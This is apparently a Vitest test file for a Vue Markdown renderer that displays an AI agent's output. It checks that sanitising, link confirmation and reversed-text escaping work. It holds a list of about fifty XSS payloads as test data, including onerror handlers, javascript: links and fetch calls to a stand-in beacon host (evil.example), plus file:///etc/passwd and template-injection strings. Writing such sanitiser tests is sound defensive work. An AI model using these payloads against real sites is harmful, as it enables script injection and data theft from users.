// @vitest-environment happy-dom
import { mount } from '@vue/test-utils'
import { describe, expect, it, vi } from 'vitest'
import { askToOpenKey } from '../../../src/renderer/composables/linkOpening'
import MarkdownText from '../../../src/renderer/markdown/MarkdownText.vue'
import { StreamingMarkdown } from '../../../src/renderer/markdown/streamingMarkdown'

const beacon = 'https://evil.example/beacon'
const payloads = [
  `<script>fetch('${beacon}')</script>`,
  `<img src=x onerror="fetch('${beacon}')">`,
  `<img src="${beacon}">`,
  `<svg onload="fetch('${beacon}')"></svg>`,
  `<svg><image href="${beacon}"/></svg>`,
  `<svg><script href="${beacon}"/></svg>`,
  `<svg><use href="${beacon}#a"/></svg>`,
  `<svg><animate onbegin="fetch('${beacon}')" attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`,
  `<iframe src="${beacon}"></iframe>`,
  `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
  `<object data="${beacon}"></object>`,
  `<embed src="${beacon}">`,
  `<link rel=stylesheet href="${beacon}">`,
  `<style>@import '${beacon}'; body { background: url(${beacon}) }</style>`,
  `<div style="background: url(${beacon})">x</div>`,
  `<meta http-equiv=refresh content="0;url=${beacon}">`,
  `<base href="${beacon}">`,
  `<form action="${beacon}"><input name=a><button>go</button></form>`,
  `<button formaction="${beacon}">x</button>`,
  `<video src="${beacon}" poster="${beacon}" autoplay></video>`,
  `<audio src="${beacon}" autoplay></audio>`,
  `<video><source onerror="fetch('${beacon}')"></video>`,
  `<details open ontoggle="fetch('${beacon}')">x</details>`,
  `<input autofocus onfocus="fetch('${beacon}')">`,
  `<body onload="fetch('${beacon}')">`,
  `<a href="javascript:alert(1)">x</a>`,
  `<a href="${beacon}" ping="${beacon}">x</a>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
  `<template><script>alert(1)</script></template>`,
  `<table background="${beacon}"><tr><td background="${beacon}">x</table>`,
  `![x](${beacon})`,
  `![x][r]\n\n[r]: ${beacon}`,
  `![x](${beacon} "onerror=alert(1)")`,
  `[x](javascript:alert(1))`,
  `[x](JaVaScRiPt&colon;alert(1))`,
  `[x](data:text/html,<script>alert(1)</script>)`,
  `[x](vbscript:msgbox(1))`,
  `[x](file:///etc/passwd)`,
  `[x](smb://evil.example/share)`,
  `[x](ms-msdt:/id)`,
  `[x](https://user:password@evil.example/)`,
  `<javascript:alert(1)>`,
  `[x]("onmouseover="alert(1)" )`,
  '```"><img src=x onerror=alert(1)>\ncode\n```',
  '```ts\n</code></pre><img src=x onerror=alert(1)>\n```',
  '- ```html"><script>alert(1)</script>\n  x\n  ```',
  `| <img src=x onerror=alert(1)> | b |\n|---|---|\n| [x](javascript:1) | ![](${beacon}) |`,
  `&lt;script&gt;alert(1)&lt;/script&gt;`,
  `{{ constructor.constructor('alert(1)')() }}`,
]

describe('agent text', () => {
  it.each(payloads)('becomes no element that runs, loads or misleads: %s', async (payload) => {
    const wrapper = mount(MarkdownText, { props: { text: '' } })
    for (let end = 0; end <= payload.length + 7; end += 7)
      await wrapper.setProps({ text: payload.slice(0, end) })
    expectHarmless(wrapper.element)
  })

  it.each(payloads)('is harmless even before it is sanitised: %s', (payload) => {
    for (const block of new StreamingMarkdown().update(payload)) {
      const box = document.createElement('div')
      box.innerHTML = block.kind === 'html' ? block.html : ''
      expectHarmless(box)
    }
  })

  it('is rendered as Markdown', () => {
    const blocks = new StreamingMarkdown().update('# Title\n\n- **a**\n- `b`\n\n| x |\n|--:|\n| 1 |\n\nE = $mc^2$')
    expect(blocks.map(block => block.kind === 'html' && block.html)).toEqual([
      '<h2>Title</h2>\n',
      '<ul>\n<li><strong>a</strong></li>\n<li><code>b</code></li>\n</ul>\n',
      expect.stringMatching(/^<div class="scroll"><table>[\s\S]*<td align="right">1[\s\S]*<\/table><\/div>\n$/),
      '<p>E = $mc^2$</p>\n',
    ])
  })

  it('asks before a web link is opened, with the whole address', async () => {
    const askToOpen = vi.fn()
    const wrapper = mount(MarkdownText, {
      props: { text: 'See:\n\n- [docs](https://example.com/a?b=c)' },
      global: { provide: { [askToOpenKey as symbol]: askToOpen } },
    })
    const link = wrapper.get('a')
    expect(link.attributes()).toMatchObject({ href: 'https://example.com/a?b=c', rel: 'noopener noreferrer' })
    const click = new MouseEvent('click', { bubbles: true, cancelable: true })
    link.element.dispatchEvent(click)
    expect(click.defaultPrevented).toBe(true)
    expect(askToOpen).toHaveBeenCalledWith('https://example.com/a?b=c')
  })

  it('links written-out addresses and Markdown links, but no addresses in code', () => {
    const text = 'See http://localhost:5173/, [a https://b.example](https://c.example), '
      + '`https://no.example` and **https://d.example/x_y_z**.'
    const links = mount(MarkdownText, { props: { text } }).findAll('a')
    expect(links.map(link => [link.text(), link.attributes('href')])).toEqual([
      ['http://localhost:5173/', 'http://localhost:5173/'],
      ['a https://b.example', 'https://c.example'],
      ['https://d.example/x_y_z', 'https://d.example/x_y_z'],
    ])
  })

  it.each([
    ['**注意：**正文从这里开始。', '注意：'],
    ['含**「重点」**内容', '「重点」'],
    ['**日本語の文章（括弧付き）。**この文が続きます。', '日本語の文章（括弧付き）。'],
    ['**한국어 (영어)**는 다음과 같다.', '한국어 (영어)'],
    ['*这是斜体（带括号）。*这句子继续。', '这是斜体（带括号）。'],
    ['~~删除的文字（带括号）。~~这个。', '删除的文字（带括号）。'],
    ['运行**`npm test`**即可', 'npm test'],
  ])('recognizes emphasis without blanks around it: %s', (text, emphasized) => {
    expect(mount(MarkdownText, { props: { text } }).get('strong, em, s').text()).toBe(emphasized)
  })

  it('shows characters that reverse the reading order in code', () => {
    expect(mount(MarkdownText, { props: { text: '```\naccess\u202E// admin\n```' } }).text()).toContain('access⟨U+202E⟩// admin')
  })
})

describe('Markdown with extensions', () => {
  it('shows footnotes at the end of the message, in the order of their references', () => {
    const wrapper = mount(MarkdownText, { props: { text: 'First[^a], second[^b].\n\n[^b]: two\n\n[^a]: one\n\nLast.' } })
    expect(wrapper.findAll('.note').map(mark => mark.text())).toEqual(['1', '2'])
    expect(wrapper.findAll('.block').at(-1)!.findAll('li').map(note => note.text())).toEqual(['one', 'two'])
  })

  it('shows a task with a checkbox instead of a bullet', () => {
    const items = mount(MarkdownText, { props: { text: '- [x] done\n- [ ] open\n- plain' } }).findAll('li')
    expect(items.map(item => [item.classes().join(), item.text()])).toEqual([['task', '☑ done'], ['task', '☐ open'], ['', 'plain']])
  })
})

const harmlessTags = [
  'P',
  'BR',
  'HR',
  'H1',
  'H2',
  'H3',
  'H4',
  'H5',
  'H6',
  'UL',
  'OL',
  'LI',
  'BLOCKQUOTE',
  'PRE',
  'CODE',
  'EM',
  'STRONG',
  'S',
  'A',
  'TABLE',
  'THEAD',
  'TBODY',
  'TR',
  'TH',
  'TD',
  'DIV',
  'SPAN',
  'SUP',
  'HEADER',
  'BUTTON',
]

function expectHarmless(root: Element): void {
  for (const element of root.querySelectorAll('*')) {
    expect(harmlessTags).toContain(element.tagName.toUpperCase())
    for (const { name, value } of element.attributes) {
      expect(name).not.toMatch(/^on|^(src|srcset|srcdoc|style|action|formaction|ping|poster|background|data|xlink:href)$/)
      if (name === 'href')
        expect(value).toMatch(/^https?:\/\/(?!.*@)|^mailto:/)
    }
  }
}

describe('characters that reverse text', () => {
  const turned = '\u202Etxt.exe'

  it.each([
    ['code in a line', `\`a${turned}\``, 'code'],
    ['the words of a link', `[a${turned}](https://example.com)`, 'a'],
    ['the words of a link in bold', `**[a **${turned}**](https://example.com)**`, 'a'],
    ['a block of code', `\`\`\`\na${turned}\n\`\`\``, 'pre'],
  ])('are written out in %s', (_, text, selector) => {
    const shown = mount(MarkdownText, { props: { text } }).find(selector).text()
    expect(shown).toContain('⟨U+202E⟩txt.exe')
    expect(shown).not.toContain('\u202E')
  })

  it('stay in prose, where right-to-left text may need them', () => {
    expect(mount(MarkdownText, { props: { text: 'a\u2067b\u2069c' } }).text()).toContain('a\u2067b\u2069c')
  })
})
